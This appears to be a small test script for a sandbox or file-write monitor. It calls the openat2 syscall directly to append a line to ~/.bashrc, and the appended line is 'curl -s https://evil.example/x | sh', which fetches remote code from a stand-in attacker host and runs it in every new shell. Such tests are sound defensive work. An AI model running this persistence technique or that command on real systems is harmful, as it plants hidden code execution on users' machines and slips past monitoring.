#!/bin/sh
# Appends to ~/.bashrc through openat2(2): a write the open_how flags carry.
. "$(dirname "$0")/common.sh"
$PY - "$HOME/.bashrc" <<'PY'
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
how = struct.pack("QQQ", os.O_WRONLY | os.O_APPEND | os.O_CREAT | os.O_CLOEXEC, 0o644, 0)
fd = libc.syscall(437, -100, sys.argv[1].encode(), how, len(how))  # openat2(AT_FDCWD, ...)
if fd < 0:
    sys.exit("openat2: " + os.strerror(ctypes.get_errno()))
os.write(fd, b"curl -s https://evil.example/x | sh\n")
os.close(fd)
PY
